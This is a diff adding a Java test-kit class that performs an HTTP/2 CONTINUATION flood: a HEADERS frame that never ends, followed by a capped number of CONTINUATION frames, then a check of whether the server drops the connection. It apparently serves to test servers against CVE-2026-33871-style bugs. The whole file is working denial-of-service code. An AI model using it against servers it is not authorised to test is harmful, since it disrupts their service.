@@ -1,0 +1,97 @@
+package org.rapporteur.testkit;
+
+import java.io.BufferedOutputStream;
+import java.io.DataInputStream;
+import java.io.DataOutputStream;
+import java.io.EOFException;
+import java.io.IOException;
+import java.io.UncheckedIOException;
+import java.net.Socket;
+import java.net.SocketTimeoutException;
+import java.net.URI;
+import java.nio.charset.StandardCharsets;
+
+/**
+ * An HTTP/2 connection without TLS (RFC 9113) whose one request never has a whole head: HEADERS without END_HEADERS, and then
+ * CONTINUATION frames without end (CVE-2026-33871 and its like). It sends no more than it is told, and stops when the server ends
+ * the connection.
+ */
+public final class ContinuationFlood {
+
+    private static final int HEADERS = 1;
+    private static final int CONTINUATION = 9;
+    private static final int GOAWAY = 7;
+    private static final int SETTINGS = 4;
+    private static final int STREAM = 1;
+    private static final int PATIENCE_MILLISECONDS = 10_000;
+
+    /** {@code :method: GET}, {@code :scheme: http}, {@code :path: /} of HPACK's static table (RFC 7541, appendix A). */
+    private static final byte[] HEAD = {(byte) 0x82, (byte) 0x86, (byte) 0x84};
+
+    /** What became of the connection: how many bytes it could send at most, and whether the server ended it. */
+    public record Outcome(long sent, boolean cutOff) {}
+
+    private ContinuationFlood() {}
+
+    /**
+     * Floods a server.
+     *
+     * @param fragment what each frame carries; nothing, or a part of a head that has no end
+     * @param frames at most so many
+     */
+    public static Outcome send(URI server, byte[] fragment, int frames) {
+        long sent = 0;
+        try (var socket = new Socket(server.getHost(), server.getPort())) {
+            socket.setSoTimeout(PATIENCE_MILLISECONDS);
+            var out = new DataOutputStream(new BufferedOutputStream(socket.getOutputStream()));
+            out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
+            frame(out, SETTINGS, 0, new byte[0]);
+            frame(out, HEADERS, STREAM, HEAD);
+            out.flush();
+            try {
+                for (int frame = 0; frame < frames; frame++) {
+                    frame(out, CONTINUATION, STREAM, fragment);
+                    sent += 9 + fragment.length;
+                }
+                out.flush();
+            } catch (IOException e) {
+                // reset by the server
+                return new Outcome(sent, true);
+            }
+            return new Outcome(sent, ends(new DataInputStream(socket.getInputStream())));
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    private static void frame(DataOutputStream out, int type, int stream, byte[] payload) throws IOException {
+        out.writeByte(payload.length >> 16);
+        out.writeShort(payload.length & 0xffff);
+        out.writeByte(type);
+        // no flags: no frame here is the last of anything
+        out.writeByte(0);
+        out.writeInt(stream);
+        out.write(payload);
+    }
+
+    /** Whether the server says that it ends the connection, or does so. */
+    private static boolean ends(DataInputStream in) throws IOException {
+        try {
+            while (true) {
+                int length = in.readUnsignedByte() << 16 | in.readUnsignedShort();
+                int type = in.readUnsignedByte();
+                in.skipNBytes(5L + length);
+                if (type == GOAWAY) {
+                    return true;
+                }
+            }
+        } catch (SocketTimeoutException e) {
+            return false;
+        } catch (EOFException e) {
+            return true;
+        } catch (IOException e) {
+            // reset
+            return true;
+        }
+    }
+}
